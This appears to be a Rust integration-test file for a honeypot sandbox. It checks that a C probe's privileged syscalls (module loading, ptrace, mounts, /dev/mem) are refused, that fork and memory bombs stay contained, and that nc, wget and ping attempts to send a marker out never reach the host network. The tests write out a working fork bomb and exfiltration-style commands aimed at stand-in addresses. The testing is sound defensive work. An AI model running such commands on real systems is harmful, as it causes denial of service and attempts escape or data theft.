// SPDX-License-Identifier: Apache-2.0
//! What a program of an intruder cannot do, tried by a program that asks the kernel directly. Needs root, and gcc with a
//! static C library beside what `sessions` needs.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod rig;

use std::net::UdpSocket;
use std::os::fd::OwnedFd;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use rig::{Client, Honeypot};
use rustix::net::{AddressFamily, Protocol, RecvFlags, SocketFlags, SocketType, recv, socket_with};

/// Asks for what opens the kernel or the host, and prints what the kernel says to each.
const PROBE: &str = r#"
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
static char zeros[256];
static void told(const char *name, long result) {
    printf("%s=%s\n", name, result >= 0 ? "DONE" : strerrorname_np(errno));
}
#define TRY(name, ...) do { errno = 0; told(#name, syscall(SYS_##name, __VA_ARGS__)); } while (0)
int main(void) {
    TRY(bpf, 0, zeros, 48);
    TRY(io_uring_setup, 8, zeros);
    TRY(keyctl, 0, -3, 1);
    TRY(add_key, "user", "a", "b", 1, -3);
    TRY(ptrace, PTRACE_ATTACH, 1, 0, 0);
    TRY(process_vm_readv, 1, zeros, 1, zeros, 1, 0);
    TRY(unshare, CLONE_NEWUSER);
    TRY(unshare, CLONE_NEWNET);
    TRY(setns, 0, 0);
    TRY(mount, "none", "/mnt", "tmpfs", 0, "");
    TRY(umount2, "/tmp", MNT_DETACH);
    TRY(pivot_root, "/tmp", "/tmp");
    TRY(fsopen, "tmpfs", 0);
    TRY(open_tree, -100, "/", 1);
    TRY(swapon, "/tmp/s", 0);
    TRY(init_module, zeros, 256, "");
    TRY(finit_module, 0, "", 0);
    TRY(delete_module, "x", 0);
    TRY(kexec_load, 0, 0, 0, 0);
    TRY(perf_event_open, zeros, 0, -1, -1, 0);
    TRY(userfaultfd, 0);
    TRY(open_by_handle_at, -100, zeros, 0);
    TRY(settimeofday, zeros, 0);
    TRY(sethostname, "x", 1);
    TRY(syslog, 3, zeros, 10);
    TRY(chroot, "/tmp");
    TRY(seccomp, 1, 0, zeros);
    errno = 0; told("mknod", mknod("/tmp/sda", S_IFBLK | 0600, makedev(8, 0)));
    errno = 0; told("packet", socket(AF_PACKET, SOCK_RAW, 0));
    errno = 0; told("raw", socket(AF_INET, SOCK_RAW, 1));
    errno = 0; told("alg", socket(AF_ALG, SOCK_SEQPACKET, 0));
    errno = 0; told("vsock", socket(40, SOCK_STREAM, 0));
    long child = syscall(SYS_clone, CLONE_NEWUSER | 17, 0, 0, 0, 0);
    if (child == 0) _exit(0);
    told("clone", child);
    errno = 0; told("clone3", syscall(SYS_clone3, zeros, 88));
    errno = 0; told("mem", open("/dev/mem", O_RDONLY));
    errno = 0; told("sysrq", open("/proc/sysrq-trigger", O_WRONLY));
    errno = 0; told("core", open("/proc/sys/kernel/core_pattern", O_WRONLY));
    errno = 0; told("kcore", open("/proc/kcore", O_RDONLY));
    return 0;
}
"#;

fn compile(root: &Path) {
    let source = root.join("probe.c");
    std::fs::write(&source, PROBE).unwrap();
    let mut gcc = Command::new("gcc");
    gcc.args(["-static", "-w", "-o"]).arg(root.join("bin/probe")).arg(&source);
    assert!(gcc.status().expect("gcc is needed").success());
    std::fs::remove_file(source).unwrap();
}

#[test]
fn every_way_to_the_kernel_and_the_host_is_refused() {
    let root = tempfile::tempdir().unwrap();
    rig::lay_out(root.path());
    compile(root.path());
    let settings =
        format!("failure_delay_ms = 0\npool = 1\nrootfs = '{}'\n", root.path().display());
    let honeypot = Honeypot::start(&settings);
    let mut client = Client::log_in(&honeypot);
    let shown = client.type_line("/bin/probe");
    let answers: Vec<(&str, &str)> =
        shown.lines().filter_map(|line| line.trim().split_once('=')).collect();
    assert_eq!(answers.len(), 38, "{shown}");
    let refusals = ["EPERM", "ENOSYS", "EACCES", "EAFNOSUPPORT", "ENOENT"];
    for (name, answer) in answers {
        assert!(refusals.contains(&answer), "{name}: {answer}");
    }
}

#[test]
fn a_fork_bomb_stays_in_its_cell() {
    let honeypot = Honeypot::start("failure_delay_ms = 0\npool = 2\n[cell]\nprocesses = 32\n");
    let mut bomber = Client::log_in(&honeypot);
    bomber.type_only("bomb() { bomb | bomb & }; bomb");
    bomber.type_only("while true; do bomb; done");
    std::thread::sleep(Duration::from_secs(2));
    let mut other = Client::log_in(&honeypot);
    assert!(other.type_line("echo $((6*7))").contains("42"));
    other.end();
    drop(bomber);
    honeypot.settled(2);
}

#[test]
fn a_memory_bomb_of_many_processes_stays_in_its_cell() {
    let accounts = std::fs::read_to_string("/sys/fs/cgroup/cgroup.controllers");
    let counted = Path::new("/sys/fs/cgroup/memory").exists()
        || accounts.is_ok_and(|controllers| controllers.contains("memory"));
    let settings = "failure_delay_ms = 0\npool = 1\n[cell]\nmemory_bytes = 67108864\n";
    let honeypot = Honeypot::start(settings);
    let mut bomber = Client::log_in(&honeypot);
    // Each is within the limit of a process, all are not within that of the session.
    let one = "(dd if=/dev/zero of=/dev/null bs=30M count=200; echo ended=$?) 2>/dev/null &";
    let shown = bomber.type_line(&format!("for i in 1 2 3 4 5 6; do {one} done; wait"));
    assert!(!counted || shown.contains("ended=137"), "{shown}");
    let mut other = Client::log_in(&honeypot);
    assert!(other.type_line("echo $((6*7))").contains("42"));
}

#[test]
fn ten_thousand_files_and_their_content_find_no_room() {
    let honeypot = Honeypot::start("failure_delay_ms = 0\npool = 1\n");
    let mut client = Client::log_in(&honeypot);
    for place in ["/tmp", "/etc", "/dev"] {
        client.type_line(&format!("mkdir {place}/m; cd {place}/m"));
        let shown = client
            .type_line("i=0; while [ $i -lt 10000 ] && >f$i; do i=$((i+1)); done; echo made=$i");
        let made = shown.split("made=").nth(1).and_then(|rest| rest.split_whitespace().next());
        let made: usize = made.unwrap().parse().unwrap();
        assert!((100..5000).contains(&made), "{place}: {made}");
        client.type_line(&format!("cd /; rm -r {place}/m"));
        let shown = client
            .type_line(&format!("dd if=/dev/zero of={place}/big bs=1M count=64; rm {place}/big"));
        assert!(shown.contains("No space") || shown.contains("too large"), "{place}: {shown}");
    }
}

/// All packets of the host.
fn sniffer() -> OwnedFd {
    let all = Protocol::from_raw(std::num::NonZeroU32::new(u32::from(3_u16.to_be())).unwrap());
    let flags = SocketFlags::CLOEXEC | SocketFlags::NONBLOCK;
    socket_with(AddressFamily::PACKET, SocketType::RAW, flags, Some(all)).expect("root is needed")
}

/// Does a packet with this in it come by?
fn sees(sniffer: &OwnedFd, mark: &[u8], wait: Duration) -> bool {
    let end = Instant::now() + wait;
    let mut packet = vec![0; 4096];
    while Instant::now() < end {
        match recv(sniffer, &mut packet[..], RecvFlags::empty()) {
            Ok((_, count)) if packet[..count].windows(mark.len()).any(|part| part == mark) => {
                return true;
            }
            Ok(_) => {}
            Err(_) => std::thread::sleep(Duration::from_millis(5)),
        }
    }
    false
}

#[test]
fn no_packet_of_a_session_is_on_any_interface_of_the_host() {
    let honeypot = Honeypot::start("failure_delay_ms = 0\npool = 1\n");
    let mut client = Client::log_in(&honeypot);
    let sniffer = sniffer();
    // The sniffer does see such packets.
    let own = UdpSocket::bind("127.0.0.1:0").unwrap();
    own.send_to(b"kakoi-control-mark", own.local_addr().unwrap()).unwrap();
    assert!(sees(&sniffer, b"kakoi-control-mark", Duration::from_secs(5)));
    // What is typed goes over loopback as well, and must not hold the mark.
    client.type_line("M=kakoi-escape; M=$M-mark");
    client.type_line("(nslookup $M.example; ping -c 1 -W 1 -p 6b 192.0.2.9) > /dev/null 2>&1");
    for address in ["192.0.2.9", "10.0.2.2", "127.0.0.1", "224.0.0.1", "255.255.255.255"] {
        client.type_line(&format!(
            "(echo $M | nc -u -w 1 {address} 5353; echo $M | nc -w 1 {address} 22) > /dev/null 2>&1"
        ));
    }
    client.type_line("wget -T 2 -O - http://192.0.2.9/$M > /dev/null 2>&1");
    assert!(!sees(&sniffer, b"kakoi-escape-mark", Duration::from_secs(1)));
}
